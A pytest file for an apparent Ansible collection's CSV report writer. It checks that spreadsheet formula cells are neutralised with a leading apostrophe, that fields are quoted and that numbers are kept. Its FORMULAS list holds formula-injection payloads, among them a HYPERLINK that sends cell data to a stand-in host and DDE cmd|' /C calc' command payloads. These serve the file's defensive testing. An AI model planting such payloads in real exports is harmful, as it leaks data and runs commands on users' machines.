# -*- coding: utf-8 -*-
# Copyright (c) 2026 mlops.modelarts contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The one CSV writer: formula cells neutralised, every field quoted, numbers kept."""

from __future__ import absolute_import, division, print_function
__metaclass__ = type

import csv
import io

import pytest

from ansible_collections.mlops.modelarts.plugins.filter.report import gpu_report, gpu_report_csv
from ansible_collections.mlops.modelarts.plugins.plugin_utils._csv import csv_cell, csv_row, csv_text

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
]


def _cells(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize('formula', FORMULAS)
def test_a_cell_starting_a_formula_gets_a_leading_apostrophe(formula):
    assert _cells(csv_text([[formula]])) == [["'" + formula]]


@pytest.mark.parametrize('value, text', [(3, '3'), (-2, '-2'), (1.5, '1.5'), ('-3', '-3'), ('+1.25', '+1.25'), (None, '')])
def test_numbers_stay_numbers(value, text):
    assert csv_cell(value) == text


def test_every_field_is_quoted():
    assert csv_row(['a', 1, None]) == '"a","1",""\n'


def test_a_line_break_inside_a_name_never_starts_a_row():
    text = csv_text([['name', 'flavor'], ['job', 'gpu\r=1+1\n=2+2']])
    assert _cells(text) == [['name', 'flavor'], ['job', 'gpu\r=1+1\n=2+2']]


def _report(name, flavor, pool='@pool'):
    now = 1700000000.0
    version = dict(version_id=1, version_name=name, status=8, status_name='running', start_time=int(now * 1000) - 3600000,
                   gpu_num=1, npu_num=0, flavor_code=flavor, pool_id=pool)
    summary = dict(versions=1, gpu_num=1, npu_num=0, active_gpu_num=1, active_npu_num=0,
                   by_status={'running': dict(versions=1, gpu_num=1, npu_num=0)},
                   by_flavor={flavor: dict(versions=1, gpu_num=1, npu_num=0)},
                   by_pool={'@pool': dict(versions=1, gpu_num=1, npu_num=0)})
    host = dict(inventory_hostname='=evil()', modelarts_gpu_summary=summary, modelarts_total_count=1,
                modelarts_training_job_versions=[version])
    return gpu_report([host], now=now)


@pytest.mark.parametrize('table', ['counts', 'longest_running'])
def test_no_report_csv_cell_starts_a_formula(table):
    report = _report(FORMULAS[0], '\r=1+1')
    rows = _cells(gpu_report_csv(report, table))
    assert len(rows) > 1 and all(len(row) == len(rows[0]) for row in rows)
    for row in rows:
        for cell in row:
            assert not cell.startswith(('=', '+', '@', '\t', '\r')) and not (cell.startswith('-') and not cell[1:].isdigit())


def test_the_longest_running_csv_keeps_the_name_after_the_apostrophe():
    rows = list(csv.DictReader(io.StringIO(gpu_report_csv(_report(FORMULAS[1], 'f'), 'longest_running'))))
    assert rows[0]['version_name'] == "'" + FORMULAS[1] and rows[0]['pool_id'] == "'@pool" and rows[0]['gpu_num'] == '1'


@pytest.mark.parametrize('pool', [None, ''])
def test_the_longest_running_csv_calls_a_missing_pool_none_as_every_other_report_file(pool):
    rows = list(csv.DictReader(io.StringIO(gpu_report_csv(_report('job', 'f', pool=pool), 'longest_running'))))
    assert rows[0]['pool_id'] == 'none'
